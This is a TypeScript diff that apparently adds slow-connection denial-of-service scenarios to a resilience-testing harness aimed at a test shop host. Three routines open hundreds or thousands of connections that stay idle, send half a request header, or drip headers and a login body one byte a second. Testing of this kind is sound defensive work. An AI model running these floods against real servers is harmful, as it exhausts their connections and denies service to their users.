@@ -1,0 +1,57 @@
+import type { Attack } from "../attack";
+import { httpText, type Tools } from "../tools";
+
+/** Opens so many connections, and a new one wherever one is closed; `use` works with each while it is open. */
+async function keepOpen(tools: Tools, count: number, use: (wire: ReturnType<Tools["wire"]>, lane: number) => Promise<void>): Promise<void> {
+  await tools.flood(count, async (lane) => {
+    const wire = tools.wire();
+    if (await wire.opened()) await use(wire, lane);
+    wire.destroy();
+    await tools.pause(200 + 300 * tools.random());
+  });
+}
+
+/** A byte a second, until all are sent or nobody takes them. */
+async function drip(tools: Tools, wire: ReturnType<Tools["wire"]>, bytes: Buffer): Promise<void> {
+  for (const byte of bytes) {
+    if (!wire.isOpen || tools.isOver) return;
+    wire.write(Buffer.of(byte));
+    await tools.pause(1_000);
+  }
+}
+
+const closedOrOver = (tools: Tools, wire: ReturnType<Tools["wire"]>): Promise<unknown> =>
+  Promise.race([wire.closed(), tools.pause(tools.leftMs)]);
+
+export const connections: readonly Attack[] = [
+  {
+    row: "36a",
+    name: "2,500 connections that send nothing, and 2,500 that send half a head",
+    run: (tools) =>
+      keepOpen(tools, 5_000, async (wire, lane) => {
+        if (lane % 2 === 1) wire.write("GET /products HTTP/1.1\r\nHost: shop.test\r\nX-Half:");
+        await closedOrOver(tools, wire);
+      }),
+  },
+  {
+    row: "36b",
+    name: "600 connections that send a byte a second, of a head or of a body",
+    run: (tools) =>
+      keepOpen(tools, 600, async (wire, lane) => {
+        if (lane % 2 === 1) return drip(tools, wire, httpText("GET", "/products", { headers: { "X-Slow": "x".repeat(200) } }));
+        const whole = httpText("POST", "/token", { json: { email: "slow@abuse.test", password: "x".repeat(60) } });
+        const head = whole.indexOf("\r\n\r\n") + 4;
+        wire.write(whole.subarray(0, head));
+        return drip(tools, wire, whole.subarray(head));
+      }),
+  },
+  {
+    row: "36c",
+    name: "1,000 connections that made a request and keep quiet",
+    run: (tools) =>
+      keepOpen(tools, 1_000, async (wire) => {
+        wire.write(httpText("GET", "/products/1"));
+        await closedOrOver(tools, wire);
+      }),
+  },
+];
